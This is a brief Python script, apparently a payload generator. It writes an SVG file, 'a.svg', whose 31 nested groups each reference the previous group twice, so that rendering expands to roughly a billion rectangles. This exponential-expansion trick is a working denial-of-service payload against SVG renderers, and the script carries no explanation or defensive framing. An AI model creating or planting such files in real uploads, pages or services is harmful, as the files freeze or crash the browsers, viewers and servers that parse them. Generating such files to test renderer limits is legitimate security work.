from pathlib import Path

layers = "".join(
    f'<g id="g{n}"><use href="#g{n - 1}"/><use href="#g{n - 1}"/></g>' for n in range(1, 31)
)
body = f'<defs><g id="g0"><rect width="1" height="1"/></g>{layers}</defs><use href="#g30"/>'
Path("a.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{body}</svg>')
